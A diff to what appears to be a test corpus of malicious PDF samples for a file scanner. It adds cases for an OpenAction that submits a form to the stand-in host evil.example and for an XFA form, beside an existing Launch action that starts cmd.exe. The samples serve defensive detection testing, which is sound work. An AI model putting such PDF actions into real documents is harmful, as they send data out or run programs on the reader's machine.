@@ -99,6 +99,12 @@ export const pdfCorpus: readonly CorpusFile[] = [
   bad('a program to start', 'active', 'cv.pdf', () =>
     makePdf({ object: '<< /Type /Action /S /Launch /F (cmd.exe) >>' }),
   ),
+  bad('an action that sends a form', 'active', 'cv.pdf', () =>
+    makePdf({ catalog: '/OpenAction << /S /SubmitForm /F (http://evil.example) >>' }),
+  ),
+  bad('a form with scripts of its own', 'active', 'cv.pdf', () =>
+    makePdf({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>' }),
+  ),
   bad('a file inside', 'active', 'cv.pdf', () => makePdf({ catalog: '/Names << /EmbeddedFiles 6 0 R >>' })),
   bad('a file that is attached to a note', 'active', 'cv.pdf', () =>
     makePdf({ object: '<< /Type /Filespec /EF << /F 7 0 R >> >>' }),
